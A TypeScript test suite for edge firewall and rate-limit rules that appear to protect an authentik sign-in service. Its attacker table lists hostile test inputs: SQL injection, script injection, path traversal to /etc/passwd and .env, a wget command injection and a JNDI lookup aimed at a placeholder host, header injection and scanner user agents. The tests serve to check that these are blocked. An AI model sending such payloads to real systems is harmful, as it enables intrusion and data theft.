import { PROTECTION_RULES } from "../../../lib/platform/edge/protection-rules";
import { type Protection } from "../../../lib/platform/edge/protection";
import { CloudArmor, type Request } from "./cloud-armor";

const ADMINISTRATOR = "203.0.113.9";
const IPV6_ADMINISTRATOR = "2001:db8:1::5";

/** Every rule of the table, with attacks refused. */
const EVERYTHING: Protection = {
  adminRanges: ["203.0.113.0/24", "2001:db8:1::/48"],
  restrictAdmin: true,
  waf: "enforce",
};

const FLOW = "/api/v3/flows/executor/default-authentication-flow/";
const JSON_HEADERS = { "user-agent": "Mozilla/5.0", "content-type": "application/json" };

const get = (path: string, query = ""): Request => ({ path, query });
const post = (path: string, body = "", query = ""): Request => ({ method: "POST", path, query, body });
const step = (answer: object): Request => ({
  method: "POST",
  path: FLOW,
  query: "query=next%3D%252Fapplication%252Fo%252Fauthorize%252F",
  headers: JSON_HEADERS,
  body: JSON.stringify(answer),
});
const by = (from: string, request: Request): Request => ({ ...request, from });
const named = (agent: string, request: Request): Request => ({ ...request, headers: { "user-agent": agent } });

const AUTHORIZE =
  "client_id=grafana&response_type=code&scope=openid+profile+email&redirect_uri=https%3A%2F%2Fgrafana.example.com%2Flogin%2Fgeneric_oauth&state=Zm9vOmJhcg%3D%3D&code_challenge_method=S256";

/** Base64 has every pair of letters sooner or later. */
const SAML_MESSAGE = "SAMLRequest=fZJNb4MwDIbvlfYfEPcCoR1I%2Bor1=%2FxB";

type Row = readonly [behaviour: string, request: Request, action: string, rule: string];

/** Rows of which one rule decides all, in one way. */
const decided = (
  action: string,
  rule: string,
  cases: readonly (readonly [behaviour: string, request: Request])[],
): Row[] => cases.map(([behaviour, request]) => [behaviour, request, action, rule]);

const VISITORS: readonly Row[] = [
  ...decided("allow", "requests", [
    ["opens the start page", get("/")],
    ["opens a sign-in page", get("/if/flow/default-authentication-flow/", "next=%2F")],
    [
      "opens a sign-in page on the way to an application",
      get(
        "/if/flow/default-authentication-flow/",
        `next=${encodeURIComponent(`/application/o/authorize/?${AUTHORIZE}`)}`,
      ),
    ],
    ["loads the first step of a sign-in", get(FLOW, "query=next%3D%252F")],
    ["follows a link of a mail", get("/if/flow/recovery/", "flow_token=Zx81bQ")],
    ["loads the applications", get("/api/v3/core/applications/", "ordering=name&page=1")],
    ["loads the own account", get("/api/v3/core/users/me/")],
    ["changes the own account", { ...post("/api/v3/core/users/7/"), method: "PATCH" }],
    ["loads a style", get("/static/dist/authentik.css")],
    ["loads an uploaded picture", get("/files/media/public/application-icons/grafana.png")],
    ["comes back from another identity provider", get("/source/oauth/callback/google/", "code=4%2F0AX4&state=Zm9v")],
  ]),
  ...decided("allow", "sign-ins", [
    ["submits a user name", step({ component: "ak-stage-identification", uid_field: "anna@example.com" })],
    ["submits a name with an apostrophe", step({ uid_field: "o' or 1=1" })],
    ["submits a password", step({ component: "ak-stage-password", password: "correct horse" })],
    ["submits a password that looks like an attack", step({ password: "' or 1=1; drop table <script>$(../)" })],
    ["submits a passkey", step({ webauthn: { id: "AQ", response: { signature: "MEUCIQ" } } })],
    ["asks for a new password", { ...step({ uid_field: "anna" }), path: "/api/v3/flows/executor/recovery/" }],
  ]),
  ...decided("allow", "default", [["keeps a web socket for notices", get("/ws/client/")]]),
];

const SERVERS: readonly Row[] = [
  ...decided("allow", "requests", [
    ["a browser is sent to authorize", get("/application/o/authorize/", AUTHORIZE)],
    ["a relying party loads the keys", get("/application/o/grafana/jwks/")],
    [
      "a browser signs out of an application",
      get("/application/o/grafana/end-session/", "post_logout_redirect_uri=https%3A%2F%2Fa.example"),
    ],
    ["a SAML application sends a request", post("/application/saml/wiki/sso/binding/post/", SAML_MESSAGE)],
    ["a SAML application loads the metadata", get("/application/saml/wiki/metadata/")],
    [
      "another SAML identity provider answers",
      post("/source/saml/partner/acs/", SAML_MESSAGE.replace("Request", "Response")),
    ],
    ["another directory asks for a user", get("/source/scim/hr/v2/Users", "filter=userName+eq+%22a%22+or+1=1")],
    [
      "an outpost loads its configuration",
      named("goauthentik.io/outpost/2026.5.4", get("/api/v3/outposts/instances/")),
    ],
    ["a monitor asks whether it lives", named("GoogleStackdriverMonitoring-UptimeChecks", get("/-/health/live/"))],
  ]),
  ...decided("allow", "default", [
    ["a relying party exchanges a code", post("/application/o/token/", "grant_type=authorization_code&code=abc")],
    ["a relying party asks for the claims", get("/application/o/userinfo/")],
    ["a resource server asks about a token", post("/application/o/introspect/", "token=eyJ")],
    [
      "an outpost keeps a web socket",
      named("goauthentik.io/outpost/2026.5.4", get("/ws/outpost/3f2504e0-4f89-41d3-9a0c-0305e82c3301/")),
    ],
    ["a reverse proxy asks about a visitor", get("/outpost.goauthentik.io/auth/nginx")],
  ]),
  ...decided("allow", "sign-ins", [
    ["an LDAP outpost signs a user in", named("goauthentik.io/outpost/2026.5.4", step({ password: "x" }))],
  ]),
];

const ADMINISTRATION: readonly Row[] = [
  ...decided("deny(403)", "administration", [
    ["opens the administration", get("/if/admin/")],
    ["writes a letter as its code", get("/if/%61dmin/")],
    ["writes a slash as its code", get("/if%2Fadmin/")],
    ["changes the settings", { ...post("/api/v3/admin/settings/"), method: "PUT" }],
    ["writes a blueprint", post("/api/v3/managed/blueprints/", "{}")],
    ["writes an expression", post("/api/v3/policies/expression/", "import os")],
    ["writes a property mapping", post("/api/v3/propertymappings/provider/scope/", "return {}")],
    ["from next to its range: opens the administration", by("203.0.114.9", get("/if/admin/"))],
    ["from next to its IPv6 range: opens the administration", by("2001:db8:2::5", get("/if/admin/"))],
  ]),
  ...decided("deny(403)", "administration-code", [
    ["imports a flow", post("/api/v3/flows/instances/import/", "version: 1")],
    ["writes an expression into a prompt", post("/api/v3/stages/prompt/prompts/", "import os")],
  ]),
  ...decided("allow", "requests", [
    ["reads the settings of its user", get("/api/v3/stages/all/user_settings/")],
    ["uses a part of the API that pages for users need", get("/api/v3/core/users/")],
  ]),
  ...decided("allow", "admin-ranges", [
    ["from its range: opens the administration", by(ADMINISTRATOR, get("/if/admin/"))],
    ["from its IPv6 range: opens the administration", by(IPV6_ADMINISTRATOR, get("/if/admin/"))],
    ["from its range: writes an expression", by(ADMINISTRATOR, post("/api/v3/policies/expression/", "import os"))],
    ["from its range: signs in", by(ADMINISTRATOR, step({ password: "x" }))],
  ]),
];

const ATTACKERS: readonly Row[] = [
  ...decided("deny(403)", "sqli", [
    ["SQL in a parameter", get("/if/flow/a/", "next=%27+or+1=1--")],
    ["SQL in a form", post("/application/o/token/", "client_id=a' or 1=1")],
    ["SQL in the path", get("/application/launch/a union select b/")],
    ["an encoded path that is passed over by its plain form alone", get("/%61pi/v3/core/users/", "search=' or 1=1")],
  ]),
  ...decided("deny(403)", "xss", [
    ["a script in a parameter", get("/if/flow/a/", "next=%3Cscript%3Ealert(1)%3C/script%3E")],
    ["a script address", get("/application/o/authorize/", "redirect_uri=javascript:alert(1)")],
  ]),
  ...decided("deny(403)", "lfi", [
    ["a way out of the folder", get("/static/../../etc/passwd")],
    ["an encoded way out of the folder", get("/media/%2e%2e/%2e%2e/x")],
    ["a file of settings", get("/.env")],
    ["a repository", get("/.git/config")],
  ]),
  ...decided("deny(403)", "rce", [
    ["a command", get("/cgi-bin/status", "a=;wget http://203.0.113.5/x")],
    ["a look-up in a log", get("/", "x=${jndi:ldap://203.0.113.5/a}")],
  ]),
  ...decided("deny(403)", "scannerdetection", [
    ["a scanner", named("sqlmap/1.8", get("/"))],
    ["a scanner on the API", named("Nuclei - Open-source", get("/api/v3/root/config/"))],
  ]),
  ...decided("deny(403)", "protocolattack", [
    ["a second header", get("/", "next=a%0d%0aSet-Cookie: a=b")],
    ["a second request", post("/flows/-/cancel/", "GET /if/admin/ HTTP/1.1")],
  ]),
  ...decided("allow", "requests", [["SQL where nobody looks", get("/api/v3/core/users/", "search=' or 1=1")]]),
];

const ALL = [...VISITORS, ...SERVERS, ...ADMINISTRATION, ...ATTACKERS];

describe.each([
  ["A visitor", VISITORS],
  ["On behalf of users,", SERVERS],
  ["An administrator", ADMINISTRATION],
  ["An attacker tries", ATTACKERS],
])("%s", (_, rows) => {
  it.each(rows)("%s", (__, request, action, rule) => {
    expect(new CloudArmor(EVERYTHING).decide(request)).toEqual({ action, rule, noted: [] });
  });
});

describe("The rules of the protection", () => {
  it("each decide about a request above", () => {
    const deciding = new Set(ALL.map(([, , , rule]) => rule));
    expect(PROTECTION_RULES.map(({ id }) => id).filter((id) => !deciding.has(id))).toEqual([]);
  });

  it("by default refuse nobody, and log what they would refuse", () => {
    const content = ["sqli", "xss", "lfi", "rce", "scannerdetection", "protocolattack"];
    const armor = () => new CloudArmor({});
    expect(ALL.map(([, request]) => armor().decide(request).action)).toEqual(ALL.map(() => "allow"));
    expect(ATTACKERS.map(([, request]) => armor().decide(request).noted[0])).toEqual(
      ATTACKERS.map(([, , , rule]) => (content.includes(rule) ? rule : undefined)),
    );
  });

  it("log no requests of visitors and servers", () => {
    const armor = new CloudArmor({});
    const noted = [...VISITORS, ...SERVERS].filter(([, request]) => armor.decide(request).noted.length > 0);
    expect(noted.map(([behaviour]) => behaviour)).toEqual([]);
  });

  it("would refuse elsewhere the requests that they skip on their own paths", () => {
    const elsewhere = (request: Request) => ({ ...request, path: "/if/flow/a/" });
    const rows = ALL.filter(([, request]) => new CloudArmor(EVERYTHING).decide(elsewhere(request)).action !== "allow");
    expect(rows.map(([behaviour]) => behaviour)).toEqual(
      expect.arrayContaining([
        "submits a name with an apostrophe",
        "submits a password that looks like an attack",
        "a SAML application sends a request",
        "another SAML identity provider answers",
        "another directory asks for a user",
      ]),
    );
  });

  it("are expressions of the language, with at most five conditions and 2048 characters", () => {
    const armor = new CloudArmor(EVERYTHING);
    expect(armor.expressions).toHaveLength(10);
    for (const expression of armor.expressions) {
      expect([expression, armor.problemOf(expression)]).toEqual([expression, undefined]);
      expect(expression.length).toBeLessThanOrEqual(2048);
      expect(armor.conditionsOf(expression)).toBeLessThanOrEqual(5);
    }
    expect(armor.problemOf("request.pth == '/'")).toContain("No such key: pth");
    expect(armor.problemOf("request.path.begins('/')")).toContain("begins");
    expect(armor.conditionsOf("!(request.path == 'a' || request.path == 'b') && request.method == 'c'")).toBe(3);
  });

  it("have unique priorities, with room for all ranges, and descriptions that the policy accepts", () => {
    const priorities = PROTECTION_RULES.map(({ priority }) => priority);
    expect(priorities).toEqual([...new Set(priorities)].sort((a, b) => a - b));
    expect((priorities[1] ?? 0) - (priorities[0] ?? 0)).toBeGreaterThanOrEqual(100);
    expect(PROTECTION_RULES.filter(({ title }) => title.length > 64)).toEqual([]);
    expect(PROTECTION_RULES.filter(({ reason }) => !reason.endsWith("."))).toEqual([]);
  });
});

describe("The limits of the protection", () => {
  const password = step({ password: "x" });
  const token = post("/application/o/token/", "grant_type=refresh_token");

  /** What happens to the request after a number of the same, one a tenth of a second. */
  const after = (armor: CloudArmor, count: number, request: Request) => {
    for (let index = 0; index < count; index++) armor.decide(request, index / 100);
    return armor.decide(request, count / 100).action;
  };

  it("ban the sixty-first sign-in of a minute for five minutes, and nothing else of that address", () => {
    const armor = new CloudArmor({});
    expect(after(armor, 59, password)).toBe("allow");
    expect(armor.decide(password, 1).action).toBe("deny(429)");
    expect(armor.decide(password, 299).action).toBe("deny(429)");
    expect(armor.decide(get("/if/flow/default-authentication-flow/"), 2).action).toBe("allow");
    expect(armor.decide(token, 2).action).toBe("allow");
    expect(armor.decide(by("198.51.100.8", password), 2).action).toBe("allow");
    expect(armor.decide(password, 302).action).toBe("allow");
  });

  it("count sign-ins however the path is written", () => {
    const armor = new CloudArmor({});
    after(armor, 60, password);
    const disguised = { ...password, path: FLOW.replace("executor", "%65xecutor") };
    expect(armor.decide(disguised, 1)).toMatchObject({ action: "deny(429)", rule: "sign-ins" });
  });

  it("count sixty sign-ins of a slow minute as none too many", () => {
    const armor = new CloudArmor({});
    const actions = Array.from({ length: 120 }, (_, index) => armor.decide(password, index * 1.1).action);
    expect(new Set(actions)).toEqual(new Set(["allow"]));
  });

  it("refuse the six hundred and first request of a minute until it is over", () => {
    const armor = new CloudArmor({});
    expect(after(armor, 599, get("/if/user/"))).toBe("allow");
    expect(armor.decide(get("/if/user/"), 7).action).toBe("deny(429)");
    expect(armor.decide(get("/application/o/grafana/jwks/"), 7).action).toBe("deny(429)");
    expect(armor.decide(get("/if/user/"), 70).action).toBe("allow");
  });

  it.each([
    ["tokens", token],
    ["claims", get("/application/o/userinfo/")],
    ["questions about tokens", post("/application/o/introspect/")],
    ["questions about visitors", get("/outpost.goauthentik.io/auth/traefik")],
    ["web sockets", get("/ws/outpost/3f2504e0-4f89-41d3-9a0c-0305e82c3301/")],
  ])("do not count %s", (_, request) => {
    expect(after(new CloudArmor({}), 700, request)).toBe("allow");
  });

  it("do not apply to the administrators' ranges", () => {
    expect(after(new CloudArmor(EVERYTHING), 700, by(ADMINISTRATOR, password))).toBe("allow");
  });

  it("are the settings", () => {
    const armor = new CloudArmor({ banSeconds: 60, requestsPerMinute: 2, signInsPerMinute: 1 });
    expect([0, 1, 2].map((time) => armor.decide(password, time).action)).toEqual(["allow", "deny(429)", "deny(429)"]);
    expect(armor.decide(password, 62).action).toBe("allow");
    expect([0, 1, 2].map((time) => armor.decide(get("/"), time).action)).toEqual(["allow", "allow", "deny(429)"]);
  });
});
